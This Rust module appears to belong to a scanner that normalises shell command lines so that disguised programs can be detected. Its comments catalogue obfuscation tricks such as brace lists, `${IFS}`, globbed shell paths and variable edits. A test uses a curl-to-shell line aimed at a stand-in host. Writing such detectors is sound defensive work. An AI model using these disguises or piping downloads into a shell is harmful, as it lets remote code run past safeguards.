//! Shell words as the shell reads them: quotes removed (`"sh"`, `'sh'`,
//! `$'\x73h'`), backslashes dropped (`s\h`), variables set earlier in the
//! block substituted (`X=sh; … | $X`, also edited: `${X//x/}`,
//! `${X:1:4}`), and `$(echo sh)` / `` `echo sh` `` of literals expanded.
//! Only what can be known from the text is done: an unknown variable or a
//! real command substitution stays as written.

use super::shell_expand::{ansi_c, ansi_c_end, substitution};

/// Shell variables known at a point of a block, in assignment order.
#[derive(Debug, Default, Clone)]
pub(super) struct Vars(Vec<(String, String)>);

impl Vars {
    fn get(&self, name: &str) -> Option<&str> {
        self.0.iter().rev().find(|(n, _)| n == name).map(|(_, v)| v.as_str())
    }

    fn set(&mut self, name: &str, value: String) {
        // A hostile block must not grow this without bound.
        if self.0.len() >= MAX_VARS {
            self.0.remove(0);
        }
        self.0.push((name.to_string(), value));
    }
}

/// Variables remembered per block, at most.
const MAX_VARS: usize = 64;
/// Bytes of a line normalised, at most: longer lines are cut.
const MAX_LINE: usize = 4096;
/// Nesting of `$(…)` expanded, at most.
const MAX_NESTING: u8 = 3;

/// A line written out as the shell reads it.
#[derive(Debug, PartialEq, Eq)]
pub(super) struct Words {
    pub(super) text: String,
    /// Whether a word in command position (the program a pipe, a `;` or
    /// `$(` runs) reads differently from how it is written: the disguise
    /// this module exists for. Quotes around arguments are routine.
    pub(super) disguised_command: bool,
}

/// Normalises one line, learning the assignments it makes into `vars`.
pub(super) fn normalize(line: &str, vars: &mut Vars) -> Words {
    let mut end = line.len().min(MAX_LINE);
    while !line.is_char_boundary(end) {
        end -= 1;
    }
    let mut p = Parser { s: &line[..end], i: 0, vars, disguised: false };
    let text = p.commands(0, None);
    Words { text, disguised_command: p.disguised }
}

/// A cheap test before [`normalize`]: whether some word in command
/// position (at the start, or after `|`, `;`, `&`, `(` outside quotes)
/// holds a quote, a backslash, a `$` or a backtick, the only ways a
/// command word can read differently from how it is written.
pub(super) fn may_disguise_a_command(line: &str) -> bool {
    let b = line.as_bytes();
    let mut at_command = true;
    let mut after_prefix = false;
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        match c {
            b'{' if at_command && brace_list(&line[i..]).is_some() => return true,
            b'|' | b';' | b'&' | b'(' | b'{' => {
                at_command = true;
                after_prefix = false;
            }
            b' ' | b'\t' => {}
            _ if at_command => {
                // One pass over the word: its length, and whether it holds
                // a byte that makes it read differently.
                let n = b[i..]
                    .iter()
                    .position(|c| matches!(c, b' ' | b'\t' | b'|' | b';' | b'&' | b')'))
                    .unwrap_or(b.len() - i);
                let word = &b[i..i + n];
                if word.iter().any(|c| matches!(c, b'"' | b'\'' | b'\\' | b'$' | b'`' | b'?' | b'*')) {
                    return true;
                }
                let w = &line[i..i + n];
                // `sudo "sh"`: the program after a prefix is a command too;
                // `X=sh` is followed by one.
                // `sudo -E "sh"`: so is the program after a prefix's flags
                // (a flag that starts a line, `-H "…"`, is an argument of
                // the line before).
                let prefix = PREFIXES.iter().any(|p| w.eq_ignore_ascii_case(p));
                after_prefix = prefix || after_prefix && word.first() == Some(&b'-');
                at_command = after_prefix || word.contains(&b'=');
                i += n;
                continue;
            }
            b'"' | b'\'' => {
                // Quoted text holds no command word: jump to the closing
                // quote (in double quotes, past escaped bytes).
                let mut j = i + 1;
                loop {
                    let hit = if c == b'"' {
                        memchr::memchr2(c, b'\\', &b[j..])
                    } else {
                        memchr::memchr(c, &b[j..])
                    };
                    match hit {
                        None => return false,
                        Some(k) if b[j + k] == c => {
                            j += k + 1;
                            break;
                        }
                        Some(k) => j += k + 2,
                    }
                    if j >= b.len() {
                        return false;
                    }
                }
                i = j;
                continue;
            }
            _ => {
                // Outside a command word, only a separator or a quote
                // matters: skip to the next one (past the last, none is left).
                let next =
                    b[i..].iter().position(|c| matches!(c, b'|' | b';' | b'&' | b'(' | b'{' | b'"' | b'\''));
                let Some(k) = next else { return false };
                i += k;
                continue;
            }
        }
        i += 1;
    }
    false
}

struct Parser<'a, 'v> {
    s: &'a str,
    i: usize,
    vars: &'v mut Vars,
    disguised: bool,
}

/// Programs whose next word is a command too.
pub(super) const PREFIXES: &[&str] =
    &["sudo", "doas", "env", "command", "exec", "nohup", "time", "xargs", "nice"];
/// Commands whose `NAME=value` arguments are assignments.
const DECLARERS: &[&str] = &["export", "local", "readonly", "declare", "typeset"];

impl Parser<'_, '_> {
    fn peek(&self) -> Option<u8> {
        self.s.as_bytes().get(self.i).copied()
    }

    /// Commands up to the end, or up to `close` (`)` or `` ` ``) at `depth`.
    fn commands(&mut self, depth: u8, close: Option<u8>) -> String {
        let mut out = String::new();
        let mut at_command = true;
        let mut declaring = false;
        while let Some(c) = self.peek() {
            if Some(c) == close {
                self.i += 1;
                break;
            }
            match c {
                b' ' | b'\t' | b'\r' | b'\n' => {
                    self.i += 1;
                    if !out.ends_with(' ') && !out.is_empty() {
                        out.push(' ');
                    }
                }
                // `{curl,-s,URL}` in command position: brace expansion
                // makes the words of a command.
                b'{' if at_command && let Some((words, n)) = brace_list(&self.s[self.i..]) => {
                    self.i += n;
                    out.push_str(&words);
                    self.disguised = true;
                    at_command = false;
                }
                b'|' | b';' | b'&' | b'(' | b')' | b'{' | b'}' | b'<' | b'>' => {
                    self.i += 1;
                    out.push(char::from(c));
                    // After a redirection comes a file name, not a command.
                    if !matches!(c, b'<' | b'>') {
                        at_command = true;
                        declaring = false;
                    }
                }
                _ => {
                    let start = self.i;
                    let word = self.word(depth, close);
                    let raw = &self.s[start..self.i];
                    out.push_str(&word);
                    if (at_command || declaring)
                        && let Some((name, value)) = assignment(&word)
                    {
                        if value.is_empty() && self.peek() == Some(b'(') {
                            // `p=(cu rl …)`: each element is `p[k]`.
                            let name = name.to_string();
                            self.array(&name, depth, &mut out);
                        } else if let Some(name) = name.strip_suffix('+') {
                            // `c=cu; c+=rl`: appended to what it holds.
                            let value = format!("{}{value}", self.vars.get(name).unwrap_or(""));
                            self.vars.set(name, value);
                        } else {
                            self.vars.set(name, value.to_string());
                        }
                        continue;
                    }
                    if at_command {
                        if let Some(program) = globbed_program(&word) {
                            out.truncate(out.len() - word.len());
                            out.push_str(program);
                            self.disguised = true;
                        } else if word != raw && !word.is_empty() {
                            self.disguised = true;
                        }
                        declaring = DECLARERS.contains(&word.as_str());
                        at_command = PREFIXES.contains(&word.as_str()) || word.starts_with('-');
                    }
                }
            }
        }
        out
    }

    /// The elements of an array assignment `(a b c)`, from its `(` to its
    /// `)`, each remembered as `name[k]` and written out.
    fn array(&mut self, name: &str, depth: u8, out: &mut String) {
        self.i += 1;
        out.push('(');
        let mut k = 0;
        while let Some(c) = self.peek() {
            match c {
                b')' => {
                    self.i += 1;
                    break;
                }
                b' ' | b'\t' | b'\r' | b'\n' => self.i += 1,
                _ => {
                    let element = self.word(depth, Some(b')'));
                    if element.is_empty() {
                        // Not a word (an operator): stop here.
                        break;
                    }
                    out.push_str(&element);
                    out.push(' ');
                    self.vars.set(&format!("{name}[{k}]"), element);
                    k += 1;
                }
            }
        }
        out.push(')');
    }

    /// One word, with its quotes, escapes and expansions resolved, up to
    /// a blank, an operator or the `close` of the substitution it is in.
    fn word(&mut self, depth: u8, close: Option<u8>) -> String {
        let mut w = String::new();
        while let Some(c) = self.peek() {
            if Some(c) == close {
                break;
            }
            match c {
                b' ' | b'\t' | b'\r' | b'\n' | b'|' | b';' | b'&' | b'(' | b')' | b'<' | b'>' => break,
                b'`' if depth < MAX_NESTING => {
                    self.i += 1;
                    let inner = self.commands(depth + 1, Some(b'`'));
                    w.push_str(&substitution(&inner));
                }
                b'\'' => {
                    self.i += 1;
                    let rest = &self.s[self.i..];
                    let n = rest.find('\'').unwrap_or(rest.len());
                    w.push_str(&rest[..n]);
                    self.i = (self.i + n + 1).min(self.s.len());
                }
                b'"' => {
                    self.i += 1;
                    self.double_quoted(depth, &mut w);
                }
                b'\\' => {
                    self.i += 1;
                    self.push_next_char(&mut w);
                }
                b'$' => self.dollar(depth, &mut w),
                _ => self.push_next_char(&mut w),
            }
        }
        w
    }

    fn push_next_char(&mut self, w: &mut String) {
        if let Some(ch) = self.s[self.i..].chars().next() {
            w.push(ch);
            self.i += ch.len_utf8();
        }
    }

    fn double_quoted(&mut self, depth: u8, w: &mut String) {
        while let Some(c) = self.peek() {
            match c {
                b'"' => {
                    self.i += 1;
                    return;
                }
                b'\\' => {
                    self.i += 1;
                    match self.peek() {
                        Some(b'"' | b'\\' | b'$' | b'`') => self.push_next_char(w),
                        _ => w.push('\\'),
                    }
                }
                b'$' => self.dollar(depth, w),
                b'`' if depth < MAX_NESTING => {
                    self.i += 1;
                    let inner = self.commands(depth + 1, Some(b'`'));
                    w.push_str(&substitution(&inner));
                }
                _ => self.push_next_char(w),
            }
        }
    }

    /// `$NAME`, `${NAME}`, `$(…)`, `$'…'`, or a lone `$`.
    fn dollar(&mut self, depth: u8, w: &mut String) {
        let start = self.i;
        self.i += 1;
        match self.peek() {
            Some(b'(') if depth < MAX_NESTING && self.s.as_bytes().get(self.i + 1) != Some(&b'(') => {
                self.i += 1;
                let inner = self.commands(depth + 1, Some(b')'));
                w.push_str(&substitution(&inner));
            }
            Some(b'\'') => {
                self.i += 1;
                let rest = &self.s[self.i..];
                let n = ansi_c_end(rest);
                w.push_str(&ansi_c(&rest[..n]));
                self.i = (self.i + n + 1).min(self.s.len());
            }
            Some(b'{') if matches!(self.s.as_bytes().get(self.i + 1..self.i + 3), Some(b"@}" | b"*}")) => {
                self.i += 3;
            }
            Some(b'{') => {
                let rest = &self.s[self.i + 1..];
                match rest.find('}') {
                    Some(n) if is_name(&rest[..n]) || is_element(&rest[..n]) => {
                        self.i += n + 2;
                        self.expand(&rest[..n], &self.s[start..self.i], w);
                    }
                    // `${NAME:-default}`: the value, else the default.
                    Some(n) => match with_default(&rest[..n]) {
                        Some((name, default)) => {
                            self.i += n + 2;
                            w.push_str(self.vars.get(name).unwrap_or(default));
                        }
                        None => match basename(&rest[..n], self.vars)
                            .map(str::to_string)
                            .or_else(|| expanded(&rest[..n], self.vars))
                        {
                            Some(v) => {
                                self.i += n + 2;
                                w.push_str(&v);
                            }
                            None => w.push('$'),
                        },
                    },
                    None => w.push('$'),
                }
            }
            // The positional parameters, which are empty in the shell an
            // agent runs commands in: `ba$@sh` is `bash`.
            Some(b'@' | b'*') => self.i += 1,
            Some(c) if c.is_ascii_alphabetic() || c == b'_' => {
                let rest = &self.s[self.i..];
                let n = rest.bytes().take_while(|b| b.is_ascii_alphanumeric() || *b == b'_').count();
                self.i += n;
                let name = rest[..n].to_string();
                self.expand(&name, &self.s[start..self.i], w);
            }
            _ => w.push('$'),
        }
    }

    fn expand(&self, name: &str, raw: &str, w: &mut String) {
        match self.vars.get(name) {
            Some(v) => w.push_str(v),
            // Unset, `IFS` splits words on a blank: `curl${IFS}-s` is `curl -s`.
            None if name == "IFS" => w.push(' '),
            None => w.push_str(raw),
        }
    }
}

/// A brace list at the start of `s` (`{curl,-fsSL,URL}`): its words
/// joined by blanks, and its length. Not a group (`{ cmd; }`, blanks
/// inside) nor a lone word (`{x}`).
pub(super) fn brace_list(s: &str) -> Option<(String, usize)> {
    let inner = s.strip_prefix('{')?;
    let n = inner.find('}')?;
    let list = &inner[..n];
    let plain = !list.contains(|c: char| c.is_whitespace() || matches!(c, '{' | '$' | '`' | ';' | '|' | '&'));
    (plain && list.contains(',')).then(|| (list.replace(',', " "), n + 2))
}

fn is_name(s: &str) -> bool {
    let b = s.as_bytes();
    !b.is_empty() && !b[0].is_ascii_digit() && b.iter().all(|c| c.is_ascii_alphanumeric() || *c == b'_')
}

/// `NAME[k]`: an element of an array, by its index.
fn is_element(s: &str) -> bool {
    s.strip_suffix(']')
        .and_then(|s| s.split_once('['))
        .is_some_and(|(name, k)| is_name(name) && !k.is_empty() && k.bytes().all(|b| b.is_ascii_digit()))
}

/// `NAME=value` (or `NAME+=value`, the name returned with its `+`) as a
/// word reads after normalisation.
fn assignment(word: &str) -> Option<(&str, &str)> {
    let (name, value) = word.split_once('=')?;
    is_name(name.strip_suffix('+').unwrap_or(name)).then_some((name, value))
}

/// `NAME:-default` (also `-`, `:=`, `=`) inside `${…}`: the name and the default.
fn with_default(inner: &str) -> Option<(&str, &str)> {
    let n = inner.find([':', '-', '='])?;
    let (name, rest) = inner.split_at(n);
    let default = ["-", ":-", "=", ":="].iter().find_map(|op| rest.strip_prefix(op))?;
    is_name(name).then_some((name, default))
}

/// `NAME##*/` (or `#*/`) inside `${…}`: the last path element of the
/// variable's value; `SHELL`, unset in the block, is the user's shell
/// (`s=${SHELL##*/}; … | "$s"` pipes into a shell).
fn basename<'v>(inner: &str, vars: &'v Vars) -> Option<&'v str> {
    let name = inner.strip_suffix("##*/").or_else(|| inner.strip_suffix("#*/"))?;
    if !is_name(name) {
        return None;
    }
    let value = vars.get(name).or_else(|| (name == "SHELL").then_some("sh"))?;
    value.rsplit('/').next()
}

/// The value of a known variable under the expansions that edit it:
/// `NAME//pat/rep` and `NAME/pat/rep` (a literal pattern), `NAME:off`
/// and `NAME:off:len`, `NAME^^` and `NAME,,` (`x=cxurxl; ${x//x/}` is
/// `curl`).
fn expanded(inner: &str, vars: &Vars) -> Option<String> {
    let n = inner.find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))?;
    let (name, op) = inner.split_at(n);
    let value = vars.get(name)?;
    if let Some(rest) = op.strip_prefix('/') {
        let (all, rest) = rest.strip_prefix('/').map_or((false, rest), |r| (true, r));
        let (pat, rep) = rest.split_once('/').unwrap_or((rest, ""));
        // Globs and anchors are left to the shell: unknown.
        if pat.is_empty() || pat.contains(['*', '?', '[', '#', '%']) {
            return None;
        }
        return Some(if all { value.replace(pat, rep) } else { value.replacen(pat, rep, 1) });
    }
    if let Some(rest) = op.strip_prefix(':') {
        let (off, len) = rest.split_once(':').unwrap_or((rest, ""));
        let chars: Vec<char> = value.chars().collect();
        let off: usize = off.trim().parse().ok()?;
        let from = off.min(chars.len());
        let to = if len.is_empty() {
            chars.len()
        } else {
            (from + len.trim().parse::<usize>().ok()?).min(chars.len())
        };
        return Some(chars[from..to].iter().collect());
    }
    match op {
        "^^" => Some(value.to_uppercase()),
        ",," => Some(value.to_lowercase()),
        _ => None,
    }
}

/// Programs a glob in command position is read as when it matches one of
/// their usual paths (`/???/b?sh` runs `/bin/bash`): the shells and
/// fetchers a disguised command hides.
const GLOBBED: &[&str] = &[
    "/bin/sh",
    "/bin/bash",
    "/bin/dash",
    "/bin/zsh",
    "/usr/bin/sh",
    "/usr/bin/bash",
    "/usr/bin/zsh",
    "/usr/bin/curl",
    "/usr/bin/wget",
    "/usr/bin/python3",
    "/usr/bin/perl",
];

/// The program a command word with `?` or `*` expands to, if it matches
/// one of [`GLOBBED`] (only one: an ambiguous glob is left as written).
fn globbed_program(word: &str) -> Option<&'static str> {
    if !word.contains(['?', '*']) || word.len() > 64 {
        return None;
    }
    let mut found = GLOBBED.iter().filter(|p| glob_matches(word.as_bytes(), p.as_bytes()));
    let first = found.next()?;
    // `/???/b?sh` matches /bin/bash only; `/*/*` matches many: unknown.
    found.all(|p| p.rsplit('/').next() == first.rsplit('/').next()).then_some(*first)
}

/// Whether `pattern` (`?` one byte, `*` any run without `/`) matches `text`.
///
/// One pass over the pattern, keeping the set of text positions its prefix
/// can end at: time `pattern × text`, whatever the pattern. (Trying every
/// length for every `*` in turn is exponential in the number of `*`s, and a
/// skill writes the pattern: `/***…/***…/***…`, 64 bytes, cost 2.5 s a word.)
fn glob_matches(pattern: &[u8], text: &[u8]) -> bool {
    let mut reach = vec![false; text.len() + 1];
    reach[0] = true;
    for &c in pattern {
        let mut next = vec![false; text.len() + 1];
        for j in 0..=text.len() {
            if !reach[j] {
                continue;
            }
            if c == b'*' {
                let run = text[j..].iter().take_while(|&&t| t != b'/').count();
                next[j..=j + run].fill(true);
            } else if text.get(j).is_some_and(|&t| (c == b'?' && t != b'/') || c == t) {
                next[j + 1] = true;
            }
        }
        reach = next;
    }
    reach[text.len()]
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The definition, tried length by length: exponential in the `*`s,
    /// so only for the short patterns of the comparison below.
    fn by_backtracking(pattern: &[u8], text: &[u8]) -> bool {
        match pattern.split_first() {
            None => text.is_empty(),
            Some((b'*', rest)) => (0..=text.iter().position(|&c| c == b'/').unwrap_or(text.len()))
                .any(|k| by_backtracking(rest, &text[k..])),
            Some((&c, rest)) => {
                text.first().is_some_and(|&t| (c == b'?' && t != b'/') || c == t)
                    && by_backtracking(rest, &text[1..])
            }
        }
    }

    /// Every string of length 0..=`max` over `alphabet`.
    fn all_strings(alphabet: &[u8], max: usize) -> Vec<Vec<u8>> {
        let mut all = vec![Vec::new()];
        let mut last = vec![Vec::new()];
        for _ in 0..max {
            last = last
                .iter()
                .flat_map(|s: &Vec<u8>| alphabet.iter().map(move |&c| [s.as_slice(), &[c]].concat()))
                .collect();
            all.extend(last.iter().cloned());
        }
        all
    }

    #[test]
    fn glob_matching_agrees_with_its_definition_on_every_short_pattern() {
        let texts = all_strings(b"/ab", 4);
        for pattern in all_strings(b"/a?*", 5) {
            for text in &texts {
                assert_eq!(
                    glob_matches(&pattern, text),
                    by_backtracking(&pattern, text),
                    "{:?} against {:?}",
                    String::from_utf8_lossy(&pattern),
                    String::from_utf8_lossy(text)
                );
            }
        }
    }

    #[test]
    fn a_glob_of_many_stars_is_read_at_once() {
        let stars = |n: usize| "*".repeat(n);
        // 64 bytes, 61 `*`s in three runs: the backtracking match took
        // about a second on it in release. Every three-part path matches: ambiguous, kept.
        let hostile = format!("/{}/{}/{}", stars(20), stars(20), stars(21));
        assert_eq!(hostile.len(), 64);
        assert_eq!(globbed_program(&hostile), None);
        let line = format!("curl -s https://x.example/p | {hostile}");
        assert_eq!(normalize(&line, &mut Vars::default()).text, line);
        // As many `*`s where one program fits is that program.
        let curl = format!("/u{}/b{}/c{}l", stars(20), stars(20), stars(17));
        assert_eq!(curl.len(), 64);
        assert_eq!(globbed_program(&curl), Some("/usr/bin/curl"));
        // One byte longer is not read at all (the length bound).
        assert_eq!(globbed_program(&format!("{curl}*")), None);
    }
}

#[cfg(test)]
#[path = "shell_words_tests.rs"]
mod sweep_tests;
